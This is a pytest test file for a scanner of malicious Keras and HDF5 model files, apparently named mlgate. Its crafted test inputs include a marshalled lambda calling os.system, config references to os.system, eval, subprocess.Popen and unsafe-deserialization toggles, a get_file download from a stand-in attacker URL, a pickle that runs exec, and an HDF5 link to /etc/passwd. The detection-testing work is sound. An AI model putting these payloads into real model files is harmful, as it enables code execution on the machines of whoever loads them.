"""Keras v3 ``.keras`` archives and legacy Keras / plain HDF5 ``.h5`` files.

Models are built and saved by the real keras (torch backend) and h5py; malicious variants
are crafted by rewriting config.json or model_config, as the published safe_mode bypasses
did. Nothing is ever loaded with keras.
"""

from __future__ import annotations

import os

os.environ["KERAS_BACKEND"] = "torch"

import base64
import json
import marshal
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import keras
import numpy as np
import pytest
from factories import assert_benign, assert_caught, describe, rules_found, scan, write
from payloads import os_system, py_code, shell

from mlgate import Severity
from mlgate.sandbox.disassemble import disassemble

Config = dict[str, Any]


# --- builders -------------------------------------------------------------------------
def _sequential() -> keras.Model:
    return keras.Sequential(
        [
            keras.Input((8,)),
            keras.layers.Dense(16, activation="relu"),
            keras.layers.BatchNormalization(),
            keras.layers.Dropout(0.2),
            keras.layers.Dense(2, activation="softmax"),
        ]
    )


def _functional() -> keras.Model:
    image = keras.Input((8, 8, 3))
    x = keras.layers.Conv2D(4, 3, activation="relu")(image)
    x = keras.layers.GlobalAveragePooling2D()(x)
    tokens = keras.Input((5,), dtype="int32")
    y = keras.layers.Embedding(20, 4)(tokens)
    y = keras.layers.LSTM(3)(y)
    out = keras.layers.Dense(1, activation="sigmoid")(keras.layers.Concatenate()([x, y]))
    model = keras.Model([image, tokens], out)
    model.compile(optimizer="adam", loss="binary_crossentropy", metrics=["accuracy"])
    return model


@pytest.fixture(scope="module")
def models(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Real files saved by keras once per module (saving is the slow part)."""
    root = tmp_path_factory.mktemp("keras")
    lam = keras.Sequential([keras.Input((4,)), keras.layers.Lambda(lambda x: x * 2)])
    out: dict[str, Path] = {}
    for name, model in (("seq", _sequential()), ("func", _functional()), ("lambda", lam)):
        for ext in ("keras", "h5"):
            path = root / f"{name}.{ext}"
            model.save(path)
            out[f"{name}.{ext}"] = path
    return out


def _rewrite_keras(src: Path, dst: Path, edit: Callable[[Config], None]) -> Path:
    """Copy a .keras archive with its config.json edited."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "config.json":
                config = json.loads(data)
                edit(config)
                data = json.dumps(config).encode()
            zout.writestr(item, data)
    return dst


def _rewrite_h5(src: Path, dst: Path, edit: Callable[[Config], None]) -> Path:
    dst.write_bytes(src.read_bytes())
    with h5py.File(dst, "r+") as f:
        config = json.loads(f.attrs["model_config"])
        edit(config)
        f.attrs["model_config"] = json.dumps(config)
    return dst


def _layers(config: Config) -> list[Config]:
    layers: list[Config] = config["config"]["layers"]
    return layers


def _lambda(config: Config) -> Config:
    layer: Config = next(x for x in _layers(config) if x["class_name"] == "Lambda")["config"]
    return layer


def _set_activation(ref: Config) -> Callable[[Config], None]:
    def edit(config: Config) -> None:
        _layers(config)[1]["config"]["activation"] = ref

    return edit


# --- benign ---------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["seq.keras", "seq.h5", "func.keras", "func.h5"])
def test_benign_models_have_no_finding_above_low(models: dict[str, Path], name: str) -> None:
    report = scan(models[name])
    assert_benign(report)
    assert not report.at_or_above(Severity.MEDIUM), describe(report)
    assert "MLG304" in rules_found(report)


def test_plain_hdf5_with_data_is_benign(tmp_path: Path) -> None:
    path = tmp_path / "data.h5"
    with h5py.File(path, "w") as f:
        f.create_dataset("x", data=np.arange(100, dtype="float32"))
        f["x"].attrs["unit"] = "metres"
        f.create_group("g").attrs["names"] = [b"a", b"b"]
        f.create_dataset("labels", data=np.array([b"cat", b"dog"]))
    report = scan(path)
    assert_benign(report)
    assert not report.at_or_above(Severity.MEDIUM), describe(report)


def test_custom_object_is_reported_below_high(models: dict[str, Path], tmp_path: Path) -> None:
    def edit(config: Config) -> None:
        layer = _layers(config)[1]
        layer.update(module="mycompany.layers", class_name="MyDense", registered_name="My>Dense")

    report = scan(_rewrite_keras(models["seq.keras"], tmp_path / "custom.keras", edit))
    assert_benign(report)
    assert "MLG111" in rules_found(report, Severity.MEDIUM)


# --- Lambda code ----------------------------------------------------------------------
@pytest.mark.parametrize("name", ["lambda.keras", "lambda.h5"])
def test_lambda_layer_is_critical_with_disassembly(models: dict[str, Path], name: str) -> None:
    report = scan(models[name])
    assert_caught(report, "MLG110", Severity.CRITICAL)
    hit = next(f for f in report.findings if f.rule_id == "MLG110")
    assert "BINARY_OP" in hit.evidence or "BINARY_MULTIPLY" in hit.evidence


def test_malicious_lambda_names_are_shown(models: dict[str, Path], tmp_path: Path) -> None:
    # Never called: only its bytecode is stored.
    evil = marshal.dumps((lambda x: __import__("os").system(shell("keras-lambda"))).__code__)
    code = base64.b64encode(evil).decode()

    def edit(config: Config) -> None:
        _lambda(config)["function"]["config"]["code"] = code

    report = scan(_rewrite_keras(models["lambda.keras"], tmp_path / "evil.keras", edit))
    assert_caught(report, "MLG110", Severity.CRITICAL)
    hit = next(f for f in report.findings if f.rule_id == "MLG110")
    assert "system" in hit.message and "__import__" in hit.message


def test_undecodable_lambda_is_still_critical(models: dict[str, Path], tmp_path: Path) -> None:
    code = base64.b64encode(b"\xe3" + b"\xff" * 40).decode()

    def edit(config: Config) -> None:
        _lambda(config)["function"]["config"]["code"] = code

    report = scan(_rewrite_keras(models["lambda.keras"], tmp_path / "bad.keras", edit))
    assert_caught(report, "MLG110", Severity.CRITICAL)
    assert any("undecodable" in f.message for f in report.findings), describe(report)


def test_legacy_tf_keras_lambda_in_h5(models: dict[str, Path], tmp_path: Path) -> None:
    code = base64.b64encode(marshal.dumps((lambda x: x + 1).__code__)).decode()

    def edit(config: Config) -> None:
        layer = _lambda(config)
        layer.update(function=[code, None, None], function_type="lambda")

    report = scan(_rewrite_h5(models["lambda.h5"], tmp_path / "tf.h5", edit))
    assert_caught(report, "MLG110", Severity.CRITICAL)


# --- unsafe references ----------------------------------------------------------------
REFERENCES = {
    "os-system-function": {
        "module": "os",
        "class_name": "function",
        "config": "system",
        "registered_name": "function",
    },
    "builtins-eval": {"module": "builtins", "class_name": "function", "config": "eval"},
    "get-file": {
        "module": "keras.utils",
        "class_name": "get_file",
        "config": {"origin": "http://attacker.invalid/x", "fname": "/tmp/x"},
    },
    "keras-src-get-file": {
        "module": "keras.src.utils.file_utils",
        "class_name": "function",
        "config": "get_file",
    },
    "unsafe-mode-off": {
        "module": "keras.config",
        "class_name": "function",
        "config": "enable_unsafe_deserialization",
    },
    "subprocess-class": {"module": "subprocess", "class_name": "Popen", "config": {}},
    "unknown-function": {"module": "evil_pkg.helpers", "class_name": "function", "config": "go"},
}


@pytest.mark.parametrize("ref", sorted(REFERENCES))
def test_unsafe_reference_in_keras_config(
    models: dict[str, Path], tmp_path: Path, ref: str
) -> None:
    path = _rewrite_keras(
        models["seq.keras"], tmp_path / "r.keras", _set_activation(REFERENCES[ref])
    )
    assert_caught(scan(path), "MLG111")


def test_unsafe_reference_in_h5_model_config(models: dict[str, Path], tmp_path: Path) -> None:
    edit = _set_activation(REFERENCES["os-system-function"])
    assert_caught(scan(_rewrite_h5(models["seq.h5"], tmp_path / "r.h5", edit)), "MLG111")


def test_legacy_function_type_reference(models: dict[str, Path], tmp_path: Path) -> None:
    def edit(config: Config) -> None:
        layer = _lambda(config)
        layer.update(function="system", function_type="function", module="posix")

    assert_caught(scan(_rewrite_h5(models["lambda.h5"], tmp_path / "f.h5", edit)), "MLG111")


def test_torch_module_wrapper_payload_is_scanned(models: dict[str, Path], tmp_path: Path) -> None:
    payload = base64.b64encode(os_system("keras-torchwrapper")).decode()

    def edit(config: Config) -> None:
        _layers(config).append(
            {
                "module": "keras.layers",
                "class_name": "TorchModuleWrapper",
                "config": {"module": payload},
            }
        )

    report = scan(_rewrite_keras(models["seq.keras"], tmp_path / "tw.keras", edit))
    assert_caught(report, at_least=Severity.CRITICAL)


# --- payloads in HDF5 attributes ------------------------------------------------------
def test_pickle_in_hdf5_attribute(tmp_path: Path) -> None:
    path = tmp_path / "weights.h5"
    with h5py.File(path, "w") as f:
        f.create_dataset("w", data=np.zeros(4))
        f["w"].attrs["meta"] = np.void(os_system("h5-attr"))
        f.attrs["proto2"] = np.void(
            b"\x80\x02cbuiltins\nexec\nX"
            + len(py_code("h5-p2")).to_bytes(4, "little")
            + py_code("h5-p2").encode()
            + b"\x85R."
        )
    report = scan(path)
    assert_caught(report, at_least=Severity.CRITICAL)
    assert len({f.location.artifact for f in report.at_or_above(Severity.CRITICAL)}) == 2


def test_pickle_in_opaque_dataset(tmp_path: Path) -> None:
    path = tmp_path / "d.h5"
    with h5py.File(path, "w") as f:
        f.create_dataset("blob", data=np.void(pickle.dumps({"a": 1}) + b""))
        f.create_dataset("evil", data=np.void(os_system("h5-dataset")))
    assert_caught(scan(path), at_least=Severity.CRITICAL)


def test_marshalled_code_in_attribute(tmp_path: Path) -> None:
    path = tmp_path / "m.h5"
    with h5py.File(path, "w") as f:
        f.attrs["fn"] = np.void(marshal.dumps((lambda: 0).__code__))
    assert_caught(scan(path), "MLG110", Severity.CRITICAL)


def test_external_link_is_reported(tmp_path: Path) -> None:
    path = tmp_path / "link.h5"
    with h5py.File(path, "w") as f:
        f["ext"] = h5py.ExternalLink("/etc/passwd", "/x")
    assert_caught(scan(path), "MLG111")


# --- malformed ------------------------------------------------------------------------
def test_truncated_files_are_reported(models: dict[str, Path], tmp_path: Path) -> None:
    for name in ("seq.h5", "seq.keras"):
        data = models[name].read_bytes()
        report = scan(write(tmp_path / f"cut-{name}", data[: len(data) // 2]))
        assert report.at_or_above(Severity.MEDIUM), describe(report)


def test_invalid_and_deep_json_configs(models: dict[str, Path], tmp_path: Path) -> None:
    for i, text in enumerate([b"{not json", b"[" * 100_000 + b"]" * 100_000]):
        path = tmp_path / f"j{i}.keras"
        with zipfile.ZipFile(models["seq.keras"]) as zin, zipfile.ZipFile(path, "w") as zout:
            for item in zin.infolist():
                data = text if item.filename == "config.json" else zin.read(item.filename)
                zout.writestr(item, data)
        report = scan(path)
        assert not all(a.complete for a in report.artifacts), describe(report)


def test_non_utf8_model_config(models: dict[str, Path], tmp_path: Path) -> None:
    path = tmp_path / "bin.h5"
    path.write_bytes(models["seq.h5"].read_bytes())
    with h5py.File(path, "r+") as f:
        f.attrs["model_config"] = np.void(b"\xff\xfe garbage")
    report = scan(path)
    assert "MLG201" in rules_found(report), describe(report)
    assert not all(a.complete for a in report.artifacts)


def test_config_only_archive_is_analysed(tmp_path: Path) -> None:
    config = {"module": "os", "class_name": "function", "config": "system"}
    path = tmp_path / "bare.keras"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("config.json", json.dumps(config))
    assert_caught(scan(path), "MLG111", Severity.CRITICAL)


def test_sandbox_rejects_garbage() -> None:
    assert disassemble(b"") is None
    assert disassemble(b"\xe3\x00\x01") is None
    assert disassemble(marshal.dumps(42)) is None
    listing = disassemble(marshal.dumps((lambda: 7).__code__))
    assert listing is not None and "RETURN" in listing


def test_many_lambdas_are_bounded(models: dict[str, Path], tmp_path: Path) -> None:
    def edit(config: Config) -> None:
        layer = next(x for x in _layers(config) if x["class_name"] == "Lambda")
        _layers(config).extend([layer] * 200)

    report = scan(_rewrite_keras(models["lambda.keras"], tmp_path / "many.keras", edit))
    hits = [f for f in report.findings if f.rule_id == "MLG110"]
    assert len(hits) == 201 and all(f.severity is Severity.CRITICAL for f in hits)
    assert sum("not disassembled" in f.message for f in hits) == 201 - 32


def test_hard_link_cycle_terminates(tmp_path: Path) -> None:
    path = tmp_path / "cycle.h5"
    with h5py.File(path, "w") as f:
        group = f.create_group("a/b")
        group["up"] = f["a"]
        group["up"].attrs["x"] = 1
    report = scan(path)
    assert_benign(report)


def test_real_tf_keras_h5_lambda_is_disassembled() -> None:
    """A legacy HDF5 written by real tf-keras 2 (tests/data/keras2): Keras 2 stores the
    Lambda's marshalled bytecode under ``function`` with ``function_type: "lambda"``."""
    report = scan(Path(__file__).parent / "data" / "keras2" / "lambda.h5")
    hits = [f for f in report.findings if f.rule_id == "MLG110"]
    assert hits and all(f.severity is Severity.CRITICAL for f in hits), describe(report)
    assert "names used: nn, relu, tf" in hits[0].message
